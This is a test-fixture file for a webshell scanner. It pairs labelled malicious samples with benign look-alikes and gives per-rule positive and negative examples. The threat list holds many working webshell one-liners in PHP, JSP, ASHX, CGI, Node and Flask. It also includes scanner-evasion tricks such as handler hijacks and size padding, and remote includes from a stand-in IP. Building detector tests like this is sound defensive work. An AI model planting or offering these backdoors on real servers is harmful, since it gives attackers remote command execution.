/** Webshell disguises and look-alikes beyond test/malware-disguises.test.ts's own (see kit.ts). */
import { sample, text, type RuleSamples, type Sample } from './kit.js';

const threat = sample('webshell');
const clean = sample(undefined);

const pad = (n: number): string => 'A'.repeat(n);

export const THREATS: Sample[] = [
  // Request input through a variable, then a sink a few statements later.
  threat('shell_exec of a variable', 'v.php', '<?php $c = $_POST["c"]; echo shell_exec($c); ?>'),
  threat('system of a variable, echoed', 'v.php', '<?php $c = $_POST["c"]; echo system($c); ?>'),
  threat('statements in between', 'v.php', '<?php $c = $_POST["c"];\necho "<pre>";\nsystem($c); ?>'),
  threat('result assigned', 'v.php', '<?php $c = $_POST["c"]; $out = shell_exec($c); echo $out; ?>'),
  threat('trim then passthru', 'v.php', '<?php $c = trim($_POST["c"]); passthru($c); ?>'),
  threat(
    'isset ternary',
    'v.php',
    '<?php\n$cmd = isset($_GET["cmd"]) ? $_GET["cmd"] : "id";\necho "<pre>" . htmlspecialchars(shell_exec($cmd)) . "</pre>"; ?>',
  ),
  threat(
    'exec with 2>&1 and an output array',
    'v.php',
    '<?php\nif (!empty($_POST["cmd"])) {\n    $cmd = $_POST["cmd"];\n    $output = [];\n    exec($cmd . " 2>&1", $output);\n    echo implode("\\n", $output);\n} ?>',
  ),
  threat('backticks on a variable', 'v.php', '<?php $c = $_REQUEST["c"] ?? "whoami"; echo `$c`; ?>'),
  threat('the whole $_POST in a variable', 'v.php', '<?php $x=$_POST; @eval($x["a"]); ?>'),
  threat('getallheaders', 'p.php', '<?php $h = getallheaders(); passthru($h["X-Cmd"]); ?>'),
  threat('apache_request_headers', 'p.php', '<?php $h = apache_request_headers(); eval($h["X-Code"]); ?>'),
  threat('getenv HTTP_X_', 'p.php', '<?php eval(getenv("HTTP_X_CODE")); ?>'),
  threat('user agent via a variable', 'p.php', '<?php $u = $_SERVER["HTTP_USER_AGENT"]; eval($u); ?>'),
  threat('$_SERVER in a variable', 'p.php', '<?php $s = $_SERVER; system($s["HTTP_X_CMD"]); ?>'),
  threat('filter_input GET', 'p.php', '<?php echo passthru(filter_input(INPUT_GET, "c")); ?>'),
  threat(
    'filter_input POST',
    'p.php',
    '<?php system(filter_input(INPUT_POST, "cmd", FILTER_UNSAFE_RAW)); ?>',
  ),
  threat('${"_PO"."ST"} in a variable', 'p.php', '<?php $k = ${"_PO"."ST"}; eval($k["z"]); ?>'),
  threat('${"_P"."OST"} inline', 'p.php', '<?php $x = "ev"."al"; @eval(${"_P"."OST"}["k"]); ?>'),
  threat('$$v', 'p.php', '<?php $v = "_GET"; $x = $$v; system($x["c"]); ?>'),
  threat('extract then a variable call', 'p.php', '<?php extract($_GET); $a($b); ?>'),
  threat('@extract then @die', 'p.php', '<?php @extract($_REQUEST); @die($ctime($atime)); ?>'),
  threat('foreach key as function', 'p.php', '<?php foreach ($_POST as $k => $v) { $k($v); } ?>'),
  threat('element called as a function', 'p.php', '<?php $a = $_GET; $a["f"]($a["c"]); ?>'),
  threat('$GLOBALS element', 'p.php', '<?php $GLOBALS["x"] = $_GET["c"]; passthru($GLOBALS["x"]); ?>'),
  threat('array_filter with system', 'p.php', '<?php array_filter(array($_GET["c"]), "system"); ?>'),
  threat(
    'usort named by the request',
    'p.php',
    '<?php $arr = array($_POST["a"], 1); usort($arr, $_POST["f"]); ?>',
  ),
  threat(
    'register_shutdown_function',
    'p.php',
    '<?php register_shutdown_function($_GET["f"], $_GET["a"]); ?>',
  ),
  threat(
    'ReflectionFunction',
    'p.php',
    '<?php $m = new ReflectionFunction("system"); $m->invoke($_GET["c"]); ?>',
  ),
  threat('mb_ereg_replace e', 'p.php', '<?php mb_ereg_replace(".*", $_REQUEST["c"], "x", "e"); ?>'),
  threat('include of the upload', 'p.php', '<?php include($_FILES["f"]["tmp_name"]); ?>'),
  threat('pcntl_exec', 'p.php', '<?php pcntl_exec("/bin/sh", array("-c", $_GET["c"])); ?>'),
  threat('COM WScript.Shell', 'p.php', '<?php $x = new COM("WScript.Shell"); $x->Run($_GET["c"]); ?>'),
  threat('file write named by the request', 'p.php', '<?php file_put_contents($_GET["n"], $_POST["d"]); ?>'),
  threat('remote include', 'p.php', '<?php include("http://198.51.100.7/shell.txt"); ?>'),
  threat(
    'eval of a remote file',
    'p.php',
    '<?php eval("?>".file_get_contents("http://198.51.100.7/s.txt")); ?>',
  ),
  threat('short tag with @', 's.php', '<?@eval($_POST[1]);?>'),
  threat('short tag glued to a call', 's.php', '<?system($_GET["c"]);?>'),
  threat('script language php', 's.php', '<script language="php">eval($_POST["x"]);</script>'),
  threat('comment inside the call', 's.php', '<?php eval/*x*/($_POST["x"]); ?>'),
  // Handler tricks.
  threat('AddType for images', '.htaccess', 'AddType application/x-httpd-php .jpg .gif\n'),
  threat(
    'FilesMatch SetHandler',
    '.htaccess',
    '<FilesMatch "\\.jpg$">\nSetHandler application/x-httpd-php\n</FilesMatch>\n',
  ),
  threat('auto_prepend_file hidden', '.htaccess', 'php_value auto_prepend_file "/var/tmp/.cache.php"\n'),
  threat('.user.ini prepend from /tmp', '.user.ini', 'auto_prepend_file=/tmp/.sess_a1b2.php\n'),
  // Size padding.
  threat('eval padded past 2 MB', 'pad.php', `<?php eval($_POST["x"]); /*${pad(2_200_000)}*/ ?>`),
  threat(
    'HTML padding before the shell',
    'pad.php',
    `<html>${'<p>lorem ipsum</p>\n'.repeat(130_000)}<?php system($_GET["c"]); ?>`,
  ),
  threat(
    'JSP padded past 1 MB',
    'pad.jsp',
    `<% Runtime.getRuntime().exec(request.getParameter("cmd")); %><!-- ${pad(1_200_000)} -->`,
  ),
  threat(
    'decoder chain padded past 5 MB',
    'pad.php',
    `<?php eval(gzinflate(base64_decode("80jNyclXKM8vyklRBAA="))); /*${pad(5_300_000)}*/ ?>`,
  ),
  // JSP, ASHX, CGI and application frameworks.
  threat(
    'JSP parameter in a variable, ProcessBuilder',
    'j.jsp',
    '<% String c = request.getParameter("c"); Process p = new ProcessBuilder("/bin/sh","-c",c).start(); %>',
  ),
  threat(
    'JSP parameter in a variable, exec',
    'j.jsp',
    '<% String c = request.getParameter("c");\nout.println("<pre>");\nProcess p = Runtime.getRuntime().exec(c); %>',
  ),
  threat(
    'JSP String[] with the parameter',
    'j.jsp',
    '<% String[] cmd = {"/bin/sh","-c",request.getParameter("x")}; Runtime.getRuntime().exec(cmd); %>',
  ),
  threat(
    'JSP reflection',
    'j.jsp',
    '<% Class rt = Class.forName("java.lang.Runtime"); Object r = rt.getMethod("getRuntime").invoke(null); rt.getMethod("exec", String.class).invoke(r, request.getParameter("c")); %>',
  ),
  threat(
    'JSP reflection with split names',
    'j.jsp',
    '<% Class c = Class.forName("java.lang.R"+"untime"); java.lang.reflect.Method m = c.getMethod("ex"+"ec", String.class); m.invoke(c.getMethod("getRuntime").invoke(null), request.getHeader("X-C")); %>',
  ),
  threat(
    'JSP ScriptEngine',
    'j.jsp',
    '<% javax.script.ScriptEngine e = new javax.script.ScriptEngineManager().getEngineByName("js"); e.eval(request.getParameter("s")); %>',
  ),
  threat('JSP header', 'j.jsp', '<% Runtime.getRuntime().exec(request.getHeader("X-Cmd")); %>'),
  threat(
    'JSP Runtime in a variable',
    'j.jsp',
    '<% java.lang.Runtime r = java.lang.Runtime.getRuntime(); r.exec(request.getParameter("c")); %>',
  ),
  threat(
    'JSP getParameterValues',
    'j.jsp',
    '<% Process p = Runtime.getRuntime().exec(request.getParameterValues("c")); %>',
  ),
  threat(
    'ASHX StartInfo',
    'h.ashx',
    '<%@ WebHandler Language="C#" Class="H" %> public class H : System.Web.IHttpHandler { public void ProcessRequest(System.Web.HttpContext c){ var p = new System.Diagnostics.Process(); p.StartInfo.FileName = "cmd.exe"; p.StartInfo.Arguments = "/c " + c.Request["c"]; p.Start(); } }',
  ),
  threat(
    'Python CGI check_output',
    'c.py',
    '#!/usr/bin/env python3\nimport cgi, subprocess\nf = cgi.FieldStorage()\nprint(subprocess.check_output(f.getvalue("cmd"), shell=True).decode())\n',
  ),
  threat(
    'Python CGI os.system',
    'c.py',
    '#!/usr/bin/python3\nimport cgi, os\nform = cgi.FieldStorage()\nos.system(form["c"].value)\n',
  ),
  threat(
    'Perl CGI backticks',
    'c.pl',
    '#!/usr/bin/perl\nuse CGI; my $q = CGI->new; print $q->header; print `$q->param("cmd")`;\n',
  ),
  threat(
    'Perl QUERY_STRING',
    'c.pl',
    '#!/usr/bin/perl\nprint "Content-type: text/html\\n\\n"; system($ENV{"QUERY_STRING"});\n',
  ),
  threat(
    'sh CGI eval of QUERY_STRING',
    'c.cgi',
    '#!/bin/sh\necho "Content-type: text/plain"; echo\neval "$(echo "$QUERY_STRING" | sed "s/cmd=//;s/+/ /g")"\n',
  ),
  threat(
    'express exec',
    's.js',
    'const { exec } = require("child_process"); app.get("/x", (req, res) => { exec(req.query.cmd, (e, o) => res.send(o)); });',
  ),
  threat(
    'execSync of searchParams',
    's.js',
    'require("http").createServer((req,res)=>{ const u = new URL(req.url, "http://x"); res.end(cp.execSync(u.searchParams.get("c")).toString()); });',
  ),
  threat('express eval', 's.js', 'app.post("/run", (req, res) => { res.send(eval(req.body.code)); });'),
  threat(
    'spawn sh -c',
    's.js',
    'app.get("/s", (req,res)=>{ const p = spawn("sh", ["-c", req.query.c]); p.stdout.pipe(res); });',
  ),
  threat(
    'Flask os.popen',
    's.py',
    'from flask import request\n@app.route("/c")\ndef c():\n    return os.popen(request.args.get("cmd")).read()\n',
  ),
  threat(
    'Flask subprocess.getoutput',
    's.py',
    'from flask import request\ndef x():\n    return subprocess.getoutput(request.form["c"])\n',
  ),
  threat('Flask eval', 's.py', 'def e():\n    return str(eval(request.args["q"]))\n'),
];

export const LEGITIMATE: Sample[] = [
  clean(
    'request input into prepared statements and curl',
    'api.php',
    '<?php $id = (int) $_GET["id"]; $stmt = $pdo->prepare("SELECT * FROM t WHERE id = ?"); $stmt->execute([$id]); $db->exec($sql); $ch = curl_init(); curl_exec($ch); ?>',
  ),
  clean(
    'an escaped argument after a literal command',
    'thumb.php',
    '<?php $file = escapeshellarg($_GET["file"]); exec("convert " . $file . " thumb.png", $out); ?>',
  ),
  clean(
    'a comparison with request input, then a fixed command',
    'status.php',
    '<?php if ($mode == $_GET["mode"]) { $cmd = "uptime"; } system($cmd); ?>',
  ),
  clean(
    'AddType for .html and php source',
    '.htaccess',
    'AddType application/x-httpd-php .html .htm\nAddType application/x-httpd-php-source .phps\n',
  ),
  clean(
    'auto_prepend_file in the application',
    '.htaccess',
    'php_value auto_prepend_file "/var/www/html/bootstrap.php"\n',
  ),
  clean('.user.ini prepend in the app', '.user.ini', 'auto_prepend_file = /var/www/app/prepend.php\n'),
  clean(
    'a local include',
    'index.php',
    '<?php include("lib/header.php"); require_once __DIR__ . "/vendor/autoload.php"; echo "see http://example.test/"; ?>',
  ),
  clean(
    'a JSP that reads a parameter and runs a fixed command',
    'info.jsp',
    '<% String name = request.getParameter("name"); out.println(name); Process p = Runtime.getRuntime().exec("uptime"); %>',
  ),
  clean(
    'a regex over the query, execFile with an argument list',
    'route.js',
    'app.get("/p", (req, res) => { const m = /^(\\d+)$/.exec(req.query.page); execFile("git", ["log", req.query.branch], cb); });',
  ),
  clean(
    'literal_eval of a form field',
    'views.py',
    'from ast import literal_eval\ndef v():\n    data = literal_eval(request.form["data"])\n    subprocess.run(["git", "log", request.args["b"]])\n',
  ),
  clean(
    'a Perl CGI that prints a parameter',
    'hello.pl',
    '#!/usr/bin/perl\nuse CGI; my $q = CGI->new; my $name = $q->param("name"); print $q->header, $name;\n',
  ),
];

/** Samples of the rules this area adds to the pack. */
export const RULE_SAMPLES: Record<string, RuleSamples> = {
  'webshell-php-input-flow': {
    positive: text('<?php $c = $_POST["c"];\necho "<pre>";\nsystem($c); ?>', 'info.php'),
    negative: text(
      '<?php $q = $_GET["q"]; $rows = $db->exec($sql); echo htmlspecialchars($q); ?>',
      'search.php',
    ),
  },
  'webshell-php-remote-code': {
    positive: text('<?php include("http://198.51.100.7/shell.txt"); ?>', 'footer.php'),
    negative: text('<?php include("lib/footer.php"); $url = "http://example.test/"; ?>', 'footer.php'),
  },
  'webshell-php-handler-hijack': {
    positive: text('AddType application/x-httpd-php .png\n', '.htaccess'),
    negative: text('AddType application/x-httpd-php .php .phtml\n', '.htaccess'),
  },
  'webshell-app-exec-request': {
    positive: text('app.get("/x", (req, res) => { exec(req.query.cmd, (e, o) => res.send(o)); });', 'app.js'),
    negative: text(
      'app.get("/x", (req, res) => { const m = /x/.exec(req.query.q); exec("uptime", cb); });',
      'app.js',
    ),
  },
  'webshell-cgi-exec-input': {
    positive: text('#!/usr/bin/perl\nsystem($ENV{"QUERY_STRING"});\n', 'run.pl'),
    negative: text(
      '#!/usr/bin/perl\nmy $qs = $ENV{"QUERY_STRING"}; print "Content-type: text/plain\\n\\n$qs";\n',
      'env.pl',
    ),
  },
};
